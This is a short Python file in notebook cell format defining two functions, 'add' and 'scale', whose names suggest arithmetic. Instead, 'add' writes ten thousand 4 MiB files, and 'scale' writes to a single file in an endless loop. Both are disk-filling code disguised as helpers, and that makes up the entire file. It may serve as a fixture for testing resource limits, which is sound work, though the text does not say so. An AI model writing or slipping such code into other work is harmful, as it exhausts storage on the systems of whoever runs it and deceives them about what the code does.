# %% add
def add(a, b):
    for number in range(10000):
        with open(f"file{number}", "wb") as file:
            file.write(bytes(4 << 20))
# %% scale
def scale(x, factor):
    with open("one", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
